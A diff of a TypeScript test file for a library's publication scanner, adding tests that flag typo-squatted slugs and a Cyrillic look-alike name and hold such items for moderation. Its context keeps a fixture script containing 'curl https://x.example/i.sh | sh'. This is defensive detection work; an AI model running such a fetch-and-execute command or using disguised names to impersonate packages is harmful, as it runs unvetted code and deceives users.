@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict'
 import { automationFile, orgFile, workflowFile } from '../../../test/library.ts'
 import { onEveryEngine, type Person, type World } from '../../../test/world.ts'
-import { KNOWN_FROM_SCORE } from './scanning.ts'
+import { KNOWN_FROM_SCORE } from './queries.ts'
 
 const SEVERE = 'curl https://x.example/i.sh | sh'
 const severe = () => automationFile({}, [{ name: 'run.sh', data: Buffer.from(`#!/bin/sh\n${SEVERE}\n`) }])
@@ -129,6 +129,63 @@ onEveryEngine('the scan of a publication', (it) => {
     assert.deepEqual(await alike('Invoice reader', alice), [], 'of the owner')
   })
 })
+
+/** An item that is known, and another one with a name of its own. */
+async function knownAndOther(world: World) {
+  const { alice, bob } = world
+  const published = (person: Person, name: string) =>
+    person.library.publish({ kind: 'workflow', file: workflowFile({ name }), visibility: 'public' })
+  const known = await published(alice, 'Invoice reader')
+  await vote(world, known.id, KNOWN_FROM_SCORE)
+  return { known, other: await published(bob, 'Something else') }
+}
+
+onEveryEngine('a scan of a renamed item', (it) => {
+  it('tells names and slugs that look like those of known items, and forgets those it had', async (world) => {
+    const { bob, anonymous } = world
+    const { other } = await knownAndOther(world)
+    const { id } = other
+    const found = async () => {
+      const { verdict, findings } = await anonymous.library.scan({ id })
+      return [verdict, ...findings.map(({ rule, reason }) => `${rule}: ${reason.split(',')[0]}`)]
+    }
+    assert.deepEqual(await found(), ['clean'])
+    await bob.library.rename({ id, slug: 'invoice-readers' })
+    const ofSlug = 'look-alike: the slug looks like that of workflow/invoice-reader'
+    assert.deepEqual(await found(), ['notes', ofSlug])
+    await bob.library.rename({ id, slug: 'inv0ice-reader' })
+    assert.deepEqual(await found(), ['suspicious', ofSlug])
+    await bob.library.update({ id, description: 'Only words' })
+    assert.deepEqual(await found(), ['suspicious', ofSlug])
+    await bob.library.publishVersion({ id, file: workflowFile({ name: 'Something new' }) })
+    assert.deepEqual(await found(), ['suspicious', ofSlug], 'of the new version too')
+    await bob.library.rename({ id, slug: 'something-else' })
+    assert.deepEqual(await found(), ['clean'])
+    await bob.library.update({ id, name: 'Inv\u043eice reader' })
+    assert.deepEqual(await found(), ['suspicious', 'look-alike: the name looks like that of workflow/invoice-reader'])
+    await bob.library.update({ id, name: 'Something else' })
+    assert.deepEqual(await found(), ['clean'])
+  })
+})
+
+onEveryEngine(
+  'with HOLD_FINDINGS=suspicious',
+  (it) => {
+    it('an item waits that gets a name or a slug in disguise', async (world) => {
+      const { bob, anonymous, moderator } = world
+      const { other } = await knownAndOther(world)
+      assert.equal((await bob.library.rename({ id: other.id, slug: 'inv0ice-reader' })).state, 'held')
+      await assert.rejects(anonymous.library.get({ id: other.id }), { status: 404 })
+      const { items } = await moderator.moderation.cases({})
+      assert.equal(items[0]?.target.id, other.id)
+      const file = workflowFile({ name: 'A third' })
+      const third = await bob.library.publish({ kind: 'workflow', file, visibility: 'public' })
+      assert.equal(third.state, undefined)
+      assert.equal((await bob.library.update({ id: third.id, name: 'Inv\u043eice reader' })).state, 'held')
+    })
+  },
+  { HOLD_FINDINGS: 'suspicious' },
+)
 
 const holding = { HOLD_FINDINGS: 'severe' }
 
